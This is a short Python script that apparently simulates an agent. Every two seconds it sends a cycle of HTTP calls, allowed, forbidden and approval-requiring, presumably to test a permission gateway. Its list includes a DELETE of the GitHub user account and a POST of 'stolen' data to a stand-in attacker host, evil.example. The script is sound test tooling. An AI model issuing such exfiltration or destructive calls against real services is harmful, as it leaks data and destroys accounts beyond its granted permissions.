"""Stands for an agent: calls every few seconds what it may, what it may not, and what a person has to agree to."""

import itertools
import json
import time
import urllib.error
import urllib.request

CALLS = [
    ("GET", "https://api.github.com/zen", None),
    ("GET", "https://api.github.com/user", None),
    ("DELETE", "https://api.github.com/user", None),
    ("POST", "https://api.github.com/repos/example/example/issues", {"title": "from an agent"}),
    ("POST", "https://evil.example/upload", {"stolen": "everything"}),
]


def call(method: str, url: str, body: dict | None) -> None:
    data = None if body is None else json.dumps(body).encode()
    request = urllib.request.Request(url, data, {"content-type": "application/json"} if data else {}, method=method)
    try:
        with urllib.request.urlopen(request, timeout=30) as answer:
            print(method, url, answer.status)
    except urllib.error.HTTPError as refusal:
        print(method, url, refusal.code, refusal.read(300).decode(errors="replace"))
    except OSError as failure:
        print(method, url, failure)


for method, url, body in itertools.cycle(CALLS):
    call(method, url, body)
    time.sleep(2)
